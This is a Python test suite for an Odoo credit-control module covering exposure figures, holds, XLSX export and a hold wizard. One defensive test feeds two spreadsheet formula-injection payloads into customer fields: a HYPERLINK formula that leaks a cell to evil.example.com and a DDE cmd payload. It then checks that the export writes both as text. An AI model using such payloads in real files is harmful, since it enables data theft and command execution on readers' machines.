import base64
import io

import openpyxl

from odoo.tests import tagged

from .common import OtcCreditCommon


@tagged("post_install", "-at_install")
class TestCreditControl(OtcCreditCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.set_credit(cls.customer, 2000, otc_credit_policy="warn")
        cls.make_invoice(cls.customer, 1500, days_ago=50)  # 20 days overdue
        cls.make_invoice(cls.customer, 300, post=False)
        order = cls.make_order(cls.contact, 400)
        order.with_context(otc_skip_credit_check=True).action_confirm()
        cls.make_payment(cls.customer, 100)
        cls.other = cls.env["res.partner"].create(
            {"name": "Held Customer", "is_company": True}
        )
        cls.set_credit(cls.other, 0)
        cls.make_invoice(cls.other, 50)
        cls.other.with_company(cls.company)._otc_set_hold("Dispute")

    def _row(self, partner):
        return self.env["otc.credit.control"].search(
            [("partner_id", "=", partner.id), ("company_id", "=", self.company.id)]
        )

    def test_figures_match_partner(self):
        row = self._row(self.customer)
        self.assertEqual(len(row), 1)
        self.assertAlmostEqual(row.receivable, 1500)
        self.assertAlmostEqual(row.draft_invoices, 300)
        self.assertAlmostEqual(row.unbilled_orders, 400)
        self.assertAlmostEqual(row.unallocated, 100)
        self.assertAlmostEqual(row.exposure, 2100)
        self.assertAlmostEqual(row.credit_limit, 2000)
        self.assertAlmostEqual(row.available_credit, -100)
        self.assertAlmostEqual(row.overdue_amount, 1500)
        self.assertEqual(row.oldest_overdue_days, 20)
        self.assertEqual(row.credit_policy, "warn")
        self.assertEqual(row.credit_status, "over")
        partner = self.customer.with_company(self.company)
        self.assertAlmostEqual(partner.otc_exposure, row.exposure)
        self.assertEqual(partner.otc_credit_status, row.credit_status)

    def test_hold_row_and_filters(self):
        row = self._row(self.other)
        self.assertTrue(row.on_hold)
        self.assertEqual(row.hold_reason, "Dispute")
        self.assertEqual(row.credit_status, "hold")
        Control = self.env["otc.credit.control"]
        self.assertIn(self.other, Control.search([("on_hold", "=", True)]).partner_id)
        over = Control.search([("credit_status", "=", "over")]).partner_id
        self.assertIn(self.customer, over)
        self.assertNotIn(self.other, over)
        # The list view loads with its own fields.
        Control.with_user(self.clerk).web_search_read(
            [],
            {
                "partner_id": {"fields": {"display_name": {}}},
                "exposure": {},
                "credit_status": {},
            },
        )

    def test_company_default_limit_in_view(self):
        self.env["ir.default"].set(
            "res.partner", "credit_limit", 40.0, company_id=self.company.id
        )
        self.env["otc.credit.control"].invalidate_model()
        row = self._row(self.other)
        self.assertAlmostEqual(row.credit_limit, 40.0)

    def test_xlsx_export(self):
        rows = self.env["otc.credit.control"].with_user(self.clerk).search([])
        action = rows.action_export_xlsx()
        self.assertEqual(action["type"], "ir.actions.act_url")
        export = self.env["otc.credit.control.export"].search(
            [], order="id desc", limit=1
        )
        workbook = openpyxl.load_workbook(io.BytesIO(base64.b64decode(export.file)))
        sheet = workbook.active
        header = [c.value for c in sheet[1]]
        self.assertEqual(header[0], "Customer")
        self.assertIn("Exposure", header)
        names = [sheet.cell(row=i, column=1).value for i in range(2, sheet.max_row + 1)]
        self.assertIn("Credit Customer", names)
        exposure_col = header.index("Exposure") + 1
        line = names.index("Credit Customer") + 2
        self.assertAlmostEqual(sheet.cell(row=line, column=exposure_col).value, 2100)

    def test_xlsx_export_writes_text_as_text(self):
        """Names and hold reasons typed by anybody come out as text, never as
        a formula or a link that the spreadsheet would run."""
        name = '=HYPERLINK("http://evil.example.com/?d="&A1,"Click")'
        reason = "=cmd|' /C calc'!A0"
        self.other.name = name
        self.other.with_company(self.company)._otc_set_hold(reason)
        self.env.flush_all()
        self.env["otc.credit.control"].invalidate_model()
        rows = self.env["otc.credit.control"].with_user(self.clerk).search([])
        rows.action_export_xlsx()
        export = self.env["otc.credit.control.export"].search(
            [], order="id desc", limit=1
        )
        workbook = openpyxl.load_workbook(io.BytesIO(base64.b64decode(export.file)))
        sheet = workbook.active
        header = [c.value for c in sheet[1]]
        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
        self.assertFalse(
            [c.coordinate for c in cells if c.data_type == "f" or c.hyperlink]
        )
        held = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == name)
        self.assertEqual(held[0].data_type, "s")
        reason_cell = held[header.index("Hold Reason")]
        self.assertEqual((reason_cell.value, reason_cell.data_type), (reason, "s"))

    def test_hold_wizard(self):
        wizard = (
            self.env["otc.credit.hold.wizard"]
            .with_user(self.credit_manager)
            .create(
                {
                    "partner_ids": [(6, 0, self.contact.ids)],
                    "reason": "Bankruptcy filing",
                }
            )
        )
        wizard.action_hold()
        partner = self.customer.with_company(self.company)
        self.assertTrue(partner.otc_credit_hold)
        self.assertEqual(partner.otc_credit_hold_reason, "Bankruptcy filing")
        partner.with_user(self.credit_manager).action_otc_credit_release()
        self.assertFalse(partner.otc_credit_hold)
